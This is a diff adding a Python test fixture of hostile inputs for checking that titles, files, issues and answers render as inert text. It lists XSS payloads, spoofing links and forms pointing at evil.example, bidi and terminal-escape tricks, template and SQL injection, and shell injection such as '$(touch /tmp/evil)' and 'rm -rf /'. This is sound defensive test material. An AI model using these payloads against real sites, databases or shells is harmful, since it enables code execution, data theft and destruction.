@@ -1,0 +1,57 @@
+"""What somebody who means harm writes into a title, a file, an issue or an answer. All of it must come out as text.
+
+Each that would be an element carries the class `evil`; each that would run sets `window.evil`; each that would load or
+send does so at `evil.example`.
+"""
+
+ESC = "\x1b"
+
+PAYLOADS = {
+    "script": "<script class=evil>window.evil=1</script>",
+    "script that ends ours": "</script><script class=evil>window.evil=1</script>",
+    "script in svg": '<svg class="evil"><script>window.evil=1</script><animate onbegin="window.evil=1"/></svg>',
+    "image that fails": "<img class=evil src=x onerror=window.evil=1>",
+    "image elsewhere": '<img class="evil" src="https://evil.example/pixel.png">',
+    "broken tag": "<img class=evil src=x onerror=window.evil=1//",
+    "frame": '<iframe class="evil" src="https://evil.example/" srcdoc="<script>top.evil=1</script>"></iframe>',
+    "object": '<object class="evil" data="https://evil.example/"></object><embed class="evil" src="//evil.example">',
+    "form": '<form class="evil" action="https://evil.example/"><input name="password" autofocus onfocus=evil=1></form>',
+    "end of ours": '</textarea></title></style></pre></form><b class="evil" onclick="window.evil=1">b</b>',
+    "end of an attribute": '"\'><b class=evil onmouseover=window.evil=1 style="position:fixed;inset:0">x</b>',
+    "style": '<style class="evil">body{display:none;background:url(https://evil.example/css)}</style>',
+    "link and base": "<link class=evil rel=stylesheet href=//evil.example><base class=evil href=//evil.example>",
+    "refresh": '<meta class="evil" http-equiv="refresh" content="0;url=https://evil.example/">',
+    "comment": "<!-- <b class=evil> --> after <![CDATA[<b class=evil>]]>",
+    "template": '<template class="evil"><script>window.evil=1</script></template><noscript><p class=evil></noscript>',
+    "javascript link": "[click](javascript:window.evil=1) [tab](java\tscript:window.evil=1) <javascript:window.evil=1>",
+    "javascript entity": "[click](&#106;avascript:window.evil=1) [upper](JaVaScRiPt:window.evil=1)",
+    "data link": "[click](data:text/html;base64,PHNjcmlwdD5ldmlsPTE8L3NjcmlwdD4=) [vb](vbscript:evil)",
+    "file link": "[click](file:///etc/passwd) [blob](blob:https://evil.example/1) [ssh](ssh://evil.example)",
+    "reference link": "[click][evil] ![p][pixel]\n\n[evil]: javascript:window.evil=1\n[pixel]: https://evil.example/p.png",
+    "remote picture": "![p](https://evil.example/p.png) ![q](//evil.example/q.png) [![r](https://evil.example/r.png)](x)",
+    "link of another name": "[https://github.com/acme/shop](https://evil.example/) https://evil.example/bare",
+    "homoglyph link": "https://gіthub.com/acme <https://github.com@evil.example/> [x](https://xn--gthub-n4a.com)",
+    "markdown that swallows": "```\n~~~\n<details><summary class=evil>\n| a |\n|---|\n> [ \n***",
+    "deep markdown": "> " * 120 + "x\n" + "[" * 200 + "*" * 200,
+    "bidi": "file\u202egnp.exe\u202c \u2066hidden\u2069 \u200fmark",
+    "zero width": "pay\u200bpal \ufeff \u2060 \u00ad soft \U000e0041\U000e0042 tags",
+    "right to left": "مرحبا بالعالم שלום 123 (abc)",
+    "stacked signs": "Z" + "\u0335\u0321\u034e\u0317\u0489" * 60 + "algo",
+    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇦🇹 \ufffd 𝔘𝔫𝔦",
+    "terminal": f"{ESC}[31mred{ESC}[0m{ESC}]0;evil title\x07{ESC}[2J{ESC}[8mhidden{ESC}[0m\x08\x7f",
+    "terminal link": f"{ESC}]8;;https://evil.example/\x07click{ESC}]8;;\x07 {ESC}]8;;javascript:window.evil=1{ESC}\\x",
+    "terminal without end": f"{ESC}]52;c;ZXZpbA== {ESC}P{ESC}[99999999999999999999m{ESC}[",
+    "long word": "W" * 3_000,
+    "long path": "a/" * 700 + "x",
+    "null": "a\x00b \\u0000 \\x00",
+    "half a character": "a\ud800b \udfff",
+    "line ends": "one\r\ntwo\rthree\u2028four\u2029five\x85six\x0b\x0c",
+    "template braces": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {0} {title} %s %(x)s {{constructor.constructor('evil=1')()}}",
+    "reflex": "<reflex.Var>12</reflex.Var> <reflex.Var>x</reflex.Var> <reflex.Var></reflex.Var>",
+    "sql": "'; DROP TABLE tasks; -- \\'; %00",
+    "shell": "$(touch /tmp/evil) `id` ; rm -rf / | tee & --upload-pack=evil",
+    "names of javascript": "__proto__ constructor toString hasOwnProperty",
+    "json": '{"__proto__": {"evil": 1}, "type": "script"}',
+    "css": "expression(evil=1); background:url(https://evil.example/x); @import '//evil.example'; </style>",
+    "blank": " \u00a0\u3000\u2800",
+}  # fmt: skip
